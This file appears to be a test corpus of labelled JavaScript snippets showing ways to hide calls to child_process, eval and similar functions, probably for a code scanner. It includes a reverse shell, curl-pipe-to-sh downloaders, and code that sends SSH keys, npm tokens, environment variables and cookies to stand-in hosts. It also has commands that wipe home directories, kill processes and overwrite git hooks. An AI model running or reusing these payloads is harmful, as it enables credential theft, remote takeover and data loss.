%% constructor chain
[]['filter']['constructor']('return process')().exit(1);
%% template require
const m = require(`child_${'process'}`);
m.exec('id');
%% Reflect.apply
const cp = require('child_process');
Reflect.apply(cp.execSync, cp, ['rm -rf ~']);
%% Reflect.get
const cp = require('node:child_process');
Reflect.get(cp, 'ex' + 'ec')('id');
%% dynamic import
const { spawn } = await import('child_process');
spawn('sh', ['-c', 'curl http://198.51.100.3/x|sh']);
%% import then
import('child' + '_process').then((m) => m.execSync('id'));
%% fromCharCode
const n = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
require(n).execSync('id');
%% atob eval
eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp'));
%% Buffer to eval
const src = Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString();
(0, eval)(src);
%% globalThis bracket
globalThis['ev' + 'al']('1+1');
%% nested destructuring
const { a: { execFile: go } } = { a: require('child_process') };
go('/bin/sh', ['-c', 'id']);
%% mainModule
process.mainModule.require('child_process').exec('id');
%% binding
process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'] });
%% AsyncFunction
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
new AsyncFunction('return 1')();
%% new Function split
const F = Function;
const f = new F('a', 'return process.env' + '.SECRET');
f();
%% setTimeout text
setTimeout("require('fs').rmSync('/home',{recursive:true})", 10);
%% vm run
const vm = require('vm');
vm.runInThisContext(require('fs').readFileSync('/tmp/x', 'utf8'));
%% sockets
const net = require('net'), cp = require('child_process');
const sh = cp.spawn('/bin/sh', []);
const c = net.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
%% fetch and run
fetch('http://198.51.100.3/p.js').then(r => r.text()).then(eval);
%% optional chaining
const fs = require('fs');
fs?.promises?.rm?.('/', { recursive: true, force: true });
%% array join
const p = ['child', 'process'].join('_');
const k = ['exec', 'Sync'].join('');
require(p)[k]('id');
%% replaced letters
const n = 'chXld_process'.replace('X', 'i');
require(n).execSync('id');
%% createRequire
import { createRequire } from 'module';
const req = createRequire(import.meta.url);
req('child_process').execSync('id');
%% env to web
const https = require('https');
const r = https.request({ host: 'drop.example', method: 'POST' });
r.end(JSON.stringify(process.env));
%% wipes home
import { rm } from 'node:fs/promises';
import os from 'os';
await rm(os.homedir(), { recursive: true });
%% npm token
const fs = require('fs'), http = require('http');
http.get('http://203.0.113.1/?' + fs.readFileSync(process.env.HOME + '/.npmrc', 'base64'));
%% function constructor by arrow
(() => {}).constructor('return this')().process.mainModule.require('fs');
%% bound
const run = require('child_process').exec.bind(null);
run('shutdown -h now');
%% postinstall
const { exec: e } = require('child_process');
e('curl -s http://203.0.113.21/a | sh', () => {});
%% require alias
const r = require;
r('child_process').spawnSync('id');
%% module.require
module.require('child_process').fork('/tmp/x.js');
%% object shorthand holder
const lib = { cp: require('child_process'), fs: require('fs') };
lib.cp.execSync('id');
%% class field
class T { cp = require('child_process'); go() { this.cp.exec('id'); } }
new T().go();
%% escape in name
require('child_process')['\x65xec']('id');
%% unicode escape
\u0065val('1');
%% comma call
(1, require)('child_process').exec('id');
%% reversed
require('ssecorp_dlihc'.split('').reverse().join('')).exec('id');
%% spread call
const args = ['id'];
require('child_process').execSync(...args);
%% call
eval.call(null, 'console.log(1)');
%% apply
const { execSync } = require('child_process');
execSync.apply(this, ['id']);
%% indirect window
const w = typeof window === 'undefined' ? global : window;
w['eval']('1');
%% generator function constructor
const GF = (function* () {}).constructor;
GF('yield 1')();
%% script element
const s = document.createElement('script');
s.src = 'https://evil.example/x.js';
document.head.appendChild(s);
%% document write cookie
new Image().src = 'https://evil.example/?c=' + document.cookie;
%% worker
const { Worker } = require('worker_threads');
new Worker("require('child_process').exec('id')", { eval: true });
%% wasm-free hex
const h = '7265717569726528276673272927';
eval(h.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join(''));
%% unlink loop
const fs = require('fs'), path = require('path');
for (const f of fs.readdirSync('/home')) fs.unlinkSync(path.join('/home', f));
%% ssh dir
const fs = require('fs');
const key = fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`);
fetch('https://drop.example', { method: 'POST', body: key });
%% dgram
const d = require('dgram').createSocket('udp4');
d.send(JSON.stringify(process.env), 53, '203.0.113.21');
%% overwrites git hook
require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\ncurl http://203.0.113.21/x | sh\n');
%% kill others
process.kill(-1, 'SIGKILL');
%% deno
new Deno.Command('sh', { args: ['-c', 'id'] }).outputSync();
%% bun
Bun.spawnSync(['sh', '-c', 'id']);
%% promise then
Promise.resolve('id').then(require('child_process').execSync);
%% default parameter
function go(c, run = require('child_process').execSync) { return run(c); }
go('id');
%% helper returns module
const get = () => require('child_process');
get().exec('id');
